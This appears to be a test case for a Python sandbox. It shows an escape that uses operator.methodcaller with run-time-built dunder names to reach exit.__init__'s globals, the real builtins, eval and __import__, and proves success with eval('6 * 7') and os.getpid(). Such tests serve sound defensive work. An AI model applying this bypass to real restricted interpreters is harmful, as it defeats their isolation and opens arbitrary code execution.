# technique: operator.methodcaller with a dunder method name built at run time: methodcaller('__getattribute__', '__globals__') on exit.__init__ -> module globals -> real builtins -> real eval
# configs: default, common
# With nothing allowed `import operator` is refused.
import operator
u = '_' * 2
read = operator.methodcaller(u + 'getattribute' + u, u + 'globals' + u)
g = read(exit.__init__)
real_builtins = g[u + 'builtins' + u]
real_import = real_builtins[u + 'import' + u]
return [{'json': {'escaped': [real_builtins['eval']('6 * 7'), real_import('os').getpid()]}}]
